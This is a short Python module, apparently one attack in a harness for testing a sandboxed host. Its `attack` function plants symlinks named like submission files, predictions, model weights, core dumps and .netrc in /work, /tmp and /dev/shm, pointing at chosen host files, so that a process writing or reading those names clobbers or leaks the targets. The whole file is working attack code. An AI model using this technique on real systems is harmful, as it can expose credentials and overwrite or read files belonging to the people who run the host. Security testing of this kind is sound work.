"""Leaves links to files of the host where the host might read or write: in its folders, on its pipes."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

NAMES = ("submission.py", "predictions", "output.txt", "model.pt", "core", ".netrc")


def attack(world: dict[str, Any]) -> list[str]:
    made = []
    for folder in ("/work", "/tmp", "/dev/shm"):
        for name, file in zip(NAMES, world["files"] * len(NAMES), strict=False):
            Path(folder, name).symlink_to(file)
            made.append(f"{folder}/{name}")
    os.write(1, "".join(f"{name}\n" for name in made).encode())
    return made
